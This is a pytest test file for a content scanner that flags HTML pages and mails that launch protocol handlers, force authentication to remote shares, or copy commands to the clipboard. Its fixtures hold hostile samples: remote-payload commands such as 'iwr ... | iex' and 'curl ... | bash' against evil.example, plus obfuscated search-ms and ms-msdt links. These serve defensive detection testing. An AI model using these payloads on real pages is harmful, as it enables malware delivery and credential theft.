"""Pages that start something, ask another machine's share, or have their reader run a command."""

from __future__ import annotations

import base64

import pytest

from contentfilter.content.scan import scan_document, scan_message
from tests.samples.messages import message

SEARCH = "search-ms:query=invoice&crumb=location:\\\\192.0.2.1\\a&displayname=x"
SHARE = "file://192.0.2.1/a/b.txt"
COPY = "navigator.clipboard.writeText(t);"
OLD_COPY = "document.execCommand('copy');"


def page(head: str = "", body: str = "") -> bytes:
    return f"<!DOCTYPE html><html><head><title>x</title>{head}</head><body>{body}</body></html>".encode()


def script(code: str) -> bytes:
    return page(body=f"<script>{code}</script>")


def found(data: bytes, name: str = "invoice.html") -> set[str]:
    result = scan_document(name, data)
    assert "failed" not in {item.reason for item in result.unscanned}, result.unscanned
    return {finding.name for finding in result.findings}


def in_mail(data: bytes) -> set[str]:
    mail = message(b"Content-Type: text/html\r\n\r\n" + data)
    return {finding.name for finding in scan_message(mail).findings}


LINK = page(body=f"<a href={SEARCH}>x</a>")
STARTING = {
    "goes there": page(f'<meta http-equiv="refresh" content="0; url={SEARCH}">'),
    "the other scheme": page(f'<META CONTENT="0;URL={SEARCH.replace("search-ms", "Search")}">'),
    "a frame": page(body=f"<iframe src='{SEARCH}'></iframe>"),
    "a link": page(body=f'<a href=" {SEARCH}">the invoice</a>'),
    "spelt by number": page(body=f'<a href="{SEARCH.replace("s", "&#115;")}">the invoice</a>'),
    "a script": script('location.href = "ms-msdt:/id PCWDiagnostic /skip force";'),
    "in pieces": script("window.open('sear' + 'ch-ms:query=x');"),
    "escaped": script(r"location.replace('\x73earch-ms:query=x');"),
    "unwrapped": script(f"document.write(atob('{base64.b64encode(LINK).decode()}'))"),
    "behind other values": page(body=f"<a title='x > y <b>' class=\"<i>\" href='{SEARCH}'>the invoice</a>"),
    "behind a stray quote": page(body=f"<a ' < href={SEARCH}>the invoice</a>"),
    "installs": page(body='<a href="ms-appinstaller:?source=https://evil.example/a.msix">x</a>'),
    "opens by its moniker": page(body='<a href="file:///\\\\192.0.2.1\\a\\b.rtf!c">x</a>'),
    "a picture by its moniker": page(body='<img src="\\\\\\\\192.0.2.1\\\\a\\\\b.rtf!c">'),
    "a script by its moniker": script("open(`file://192.0.2.1/a/b.rtf!c`);"),
    "by a moniker with a sign that ends texts of scripts": page(body='<a href="file://192.0.2.1/a`/b.rtf!c">x</a>'),
    "an image of lines": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><a href="%s"/></svg>'
    % SEARCH.replace("&", "&amp;").encode(),
}  # fmt: skip


@pytest.mark.parametrize("data", STARTING.values(), ids=STARTING.keys())
def test_page_that_starts_something(data: bytes):
    assert found(data) - {"forced-authentication"} == {"executable"}
    assert "executable" in in_mail(data)


@pytest.mark.parametrize(
    "data",
    [
        page(body=f"<p>Attackers write {SEARCH}, as we know.</p>"),
        page(body=f'<pre>&lt;a href="{SEARCH}"&gt;</pre>'),
        page(body='<a href="https://www.example.org/search:all?q=crumb">x</a>'),
        page(body='<a href="file://server/share/!Important/list.xlsx">x</a>'),
        page(body='<a href="file://server/share/a.b/c!.docx">x</a>'),
        script("const windows = path === `\\\\` && entry.type !== undefined;"),
        script("path.replace(`\\\\`, `/`);up=`\\\\`,other=entry.id!==up;"),
        script("var search = 'x'; var o = {search: 1, crumb: 2}; location.href = '/search:1';"),
    ],
)
def test_page_that_speaks_of_it(data: bytes):
    assert found(data) == in_mail(data) == set()


ASKING = {
    "goes there": page(f'<meta http-equiv="refresh" content="0;URL={SHARE}">'),
    "a picture": page(body=f'<img width=1 src="{SHARE}">'),
    "in backslashes": page(body=r"<iframe src='\\192.0.2.1\a\b.html'></iframe>"),
    "by WebDAV": page(r'<link rel=stylesheet href="\\evil.example@SSL\DavWWWRoot\a.css">'),
    "a style": page(f"<style>body {{background: url('{SHARE}')}}</style>"),
    "a script": script(f"window.location = '{SHARE}'"),
    "a script in backslashes": script(r"location.href = '\\\\192.0.2.1\\a\\b'"),
}


@pytest.mark.parametrize("data", ASKING.values(), ids=ASKING.keys())
def test_page_that_asks_a_share(data: bytes):
    assert found(data) == {"forced-authentication"}
    # Programs fetch nothing of the kind for a mail that is read.
    assert in_mail(data) == set()


@pytest.mark.parametrize(
    "data",
    [
        page(body=f'<a href="{SHARE}">our share</a>'),
        page(body='<img src="file:///C:/Users/a/logo.png"><img src="file:///logo.png">'),
        page('<script src="//cdn.example/a.js"></script><link href="//cdn.example/a.css" rel=stylesheet>'),
        page(body='<img src="a\\b.png"><img src="x_files/a.png">'),
    ],
)
def test_page_that_asks_nobody_or_when_clicked(data: bytes):
    assert found(data) == set()


COMMANDS = [
    "powershell -w hidden -c iwr https://evil.example/a|iex",
    "PowerShell.exe -enc AAAA",
    "mshta https://evil.example/a.hta",
    "cmd /c start a",
    "msiexec /i https://evil.example/a.msi /qn",
    "rundll32 \\\\192.0.2.1\\a\\b.dll,c",
    "curl -s https://evil.example/a | bash",
    "osascript -e 1",
]


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize("copy", [COPY, OLD_COPY, 'window.clipboardData.setData("text", t);'])
def test_page_that_copies_a_command(command: str, copy: str):
    assert found(script(f"var t = `{command}`; {copy}")) == {"executable"}


def test_copied_commands_that_a_script_unwraps():
    packed = base64.b64encode(f"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx {COMMANDS[0]}".encode()).decode()
    assert found(script(f"var t = atob('{packed}'); {COPY}")) == {"executable"}
    assert found(
        page(body=f"<button onclick=\"t='{COMMANDS[2]}'; {OLD_COPY.replace(chr(39), '`')}\">x</button>")
    ) == {"executable"}


@pytest.mark.parametrize(
    "data",
    [
        page(body=f"<pre>{COMMANDS[0]}</pre><script>{COPY}</script>"),
        script(f"var t = 'a text'; {COPY}"),
        script(f"var t = '{COMMANDS[1]}';"),
        script(f"var languages = ['powershell', 'bash', 'cmd']; {COPY}"),
    ],
)
def test_page_that_shows_a_command_or_copies_a_text(data: bytes):
    assert found(data) == set()


@pytest.mark.parametrize("attribute", ["x" * 600, 'title="a > b < c"', "defer"])
def test_code_of_a_script_whatever_its_tag_has(attribute: str):
    tag = f"<script {attribute}>"
    assert found(page(body=f"{tag}t='{COMMANDS[0]}';{COPY}</script>")) == {"executable"}
    assert found(page(body=f"{tag}open('search-ms:query=x')</script>")) == {"executable"}


def test_what_the_tag_of_a_script_does():
    code = f"t='{COMMANDS[0]}';{COPY}".replace('"', "`")
    assert found(page(body=f'<script src="a.js" onerror="{code}"></script>')) == {"executable"}


def test_much_in_front_hides_nothing():
    assert found(page(body="<script></script>" * 5000 + f"<script>t='{COMMANDS[0]}';{COPY}</script>")) == {
        "executable"
    }
    assert found(page(body="<img src=a.png>" * 20_000 + f"<img src='{SHARE}'>")) == {"forced-authentication"}
    assert found(page(body="<img src='=search-ms:'>" * 9 + LINK.decode())) == {"executable"}
